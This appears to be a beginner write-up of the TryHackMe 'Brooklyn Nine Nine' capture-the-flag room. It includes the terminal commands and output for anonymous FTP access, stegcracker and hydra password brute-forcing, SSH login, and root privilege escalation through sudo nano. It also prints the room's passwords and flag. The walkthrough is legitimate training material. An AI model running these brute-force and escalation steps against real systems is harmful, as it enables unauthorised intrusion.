TryHackMe - Brooklyn Nine Nine - Writeup

This room is aimed for beginner level hackers but anyone can try to hack this box. There are two main intended ways to root the box.

Nmap Scan

root@ip-10-10-251-78:~# nmap -sCV -A -T4

Starting Nmap 7.60 ( ) at 2021-06-18 11:05 BST
Nmap scan report for (
Host is up (0.00056s latency).
Not shown: 997 closed ports
21/tcp open  ftp     vsftpd 3.0.3
| ftp-anon: Anonymous FTP login allowed (FTP code 230)
|_-rw-r--r--    1 0        0             119 May 17  2020 note_to_jake.txt
| ftp-syst:
|   STAT:
| FTP server status:
|      Connected to ::ffff:|      Logged in as ftp
|      TYPE: ASCII
|      No session bandwidth limit
|      Session timeout in seconds is 300
|      Control connection is plain text
|      Data connections will be plain text
|      At session startup, client count was 3
|      vsFTPd 3.0.3 - secure, fast, stable
|_End of status
22/tcp open  ssh     OpenSSH 7.6p1 Ubuntu 4ubuntu0.3 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   2048 16:7f:2f:fe:0f:ba:98:77:7d:6d:3e:b6:25:72:c6:a3 (RSA)|   256 2e:3b:61:59:4b:c4:29:b5:e8:58:39:6f:6f:e9:9b:ee (ECDSA)
|_  256 ab:16:2e:79:20:3c:9b:0a:01:9c:8c:44:26:01:58:04 (EdDSA)
80/tcp open  http    Apachehttpd 2.4.29 ((Ubuntu))
|_http-server-header: Apache/2.4.29 (Ubuntu)
|_http-title: Site doesn't have a title (text/html).
MAC Address: 02:44:F8:0D:32:A3 (Unknown)
No exact OS matches for host (If you know what OS is running on it, see ).
TCP/IP fingerprint:

Network Distance: 1 hop
Service Info: OSs: Unix, Linux; CPE: cpe:/o:linux:linux_kernel

1   0.56 ms (

OS and Service detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 22.63 secondsLogin to FTP with username anonymous and get the file called note_to_jake.txt

root@ip-10-10-251-78:~# ftp
Connected to
220 (vsFTPd 3.0.3)
Name ( anonymous
331 Please specify the password.
230 Login successful.
Remote system type is UNIX.
Using binary mode to transfer files.
ftp> ls
200 PORT command successful. Consider using PASV.
150 Here comes the directory listing.
-rw-r--r--    1 0        0             119 May 17  2020 note_to_jake.txt
226Directory send OK.
ftp> get note_to_jake.txt
local: note_to_jake.txt remote: note_to_jake.txt
200 PORT command successful. Consider using PASV.
150 Opening BINARY mode data connection for note_to_jake.txt (119 bytes).
226 Transfer complete.
119 bytes received in 0.07 secs (1.6486 kB/s)
root@ip-10-10-251-78:~# cat note_to_jake.txt
From Amy,

Jake please change your password. It is too weak and holt will be mad if someone hacks into the nine nine

nine nine interesting let’s go to web part now.

From the web view source we found a comment said Have you ever heard of steganography?

<!DOCTYPE html>
<meta name="viewport" content="width=device-width, initial-scale=1">
body, html {
  height: 100%;
  margin: 0;

.bg {
  /* The image used */background-image: url("brooklyn99.jpg");

  /* Full height */
  height: 100%;

  /* Center and scale the image nicely */
  background-position: center;
  background-repeat: no-repeat;
  background-size: cover;

<div class="bg"></div>

<p>This example creates a full page background image. Try to resize the browser window to see how it always will cover the full screen (when scrolled to top), and that it scales nicely on all screen sizes.</p>
<!-- Have you ever heard of steganography? -->

Download the image from the website try to extract data with steghide

root@ip-10-10-251-78:~/Downloads# steghide extract -sf brooklyn99.jpg
Enter passphrase:
steghide: can not uncompress data. compressed data is corrupted.

It require password let’s crackthe password with stegcracker

root@ip-10-10-251-78:~/Downloads# stegcracker brooklyn99.jpg /usr/share/wordlists/rockyou.txt
StegCracker 2.0.9 - (
Copyright (c) 2021 - Luke Paris (Paradoxis)

Counting lines in wordlist..
Attacking file 'brooklyn99.jpg' with wordlist '/usr/share/wordlists/rockyou.txt'..
Successfully cracked file with password: admin
Tried 20650 passwords
Your file has been written to: brooklyn99.jpg.out

From the ftp text we get nine nine indicating to brooklyn99.jpg now extract the item from the image file with password admin we cracked.

root@ip-10-10-251-78:~/Downloads# steghide extract -sfbrooklyn99.jpg
Enter passphrase:
wrote extracted data to "note.txt".
root@ip-10-10-251-78:~/Downloads# cat note.txt
HoltsPassword:


Tried to login to SSH as jake using the password we found but it didn’t work. Let’s bruteforce the password of SSH.

root@ip-10-10-251-78:~/Downloads# hydra -t 16 -l jake -P /usr/share/wordlists/rockyou.txt ssh
Hydra v8.6 (c) 2017 by van Hauser/THC - Please do not usein military or secret service organizations, or for illegal purposes.

Hydra ( starting at 2021-06-18 11:52:30
[WARNING] Many SSH configurations limit the number of parallel tasks, it is recommended to reduce the tasks: use -t 4
[DATA] max 16 tasks per 1 server, overall 16 tasks, 14344398 login tries (l:1/p:14344398), ~896525 tries per task
[DATA] attacking ssh://
[22][ssh] host:   login: jake   password: 987654321
1 of 1 target successfully completed, 1 valid password found
[WARNING] Writing restore file because 4 final worker threads did not complete until end.
[ERROR] 4 targets did not resolve or could not be connected
[ERROR] 16 targets did not complete
Hydra ( finished at 2021-06-18 11:52:43

We got password for jake lets login with 987654321

root@ip-10-10-251-78:~/Downloads# ssh jake@
jake@'s password:
Last login: Tue May 26 08:56:58 2020
jake@brookly_nine_nine:~$ ls
jake@brookly_nine_nine:~$ cd /homejake@brookly_nine_nine:/home$ l
amy/  holt/  jake/

As we know holt password and I didn’t found any user.txt in the machine

jake@brookly_nine_nine:~$ su holt
holt@brookly_nine_nine:/home/jake$ ls
holt@brookly_nine_nine:/home/jake$ cd ..
holt@brookly_nine_nine:/home$ ls
amy  holt  jake
holt@brookly_nine_nine:/home$ cd holt
holt@brookly_nine_nine:~$ ls  user.txt
holt@brookly_nine_nine:~$ cat user.txt

Now get root, My first approch is to check sudo -l to check sudo lists

holt@brookly_nine_nine:~$ sudo -l
Matching Defaults entries for holt on brookly_nine_nine:
    env_reset, mail_badpass,

User holt may run the following commands on brookly_nine_nine:
    (ALL) NOPASSWD: /bin/nano

holt can run nano as root. Go to GTFOBins nano

Follow up the command you’ll get root

# whoami
# cat /root/root.txt
-- Creator : Fsociety2006 --
Congratulations in rooting Brooklyn Nine Nine
Here is the flag: 63a9f0ea7bb98050796b649e85481845


Room Link: BrooklynNine Nine

Written on June 18, 2021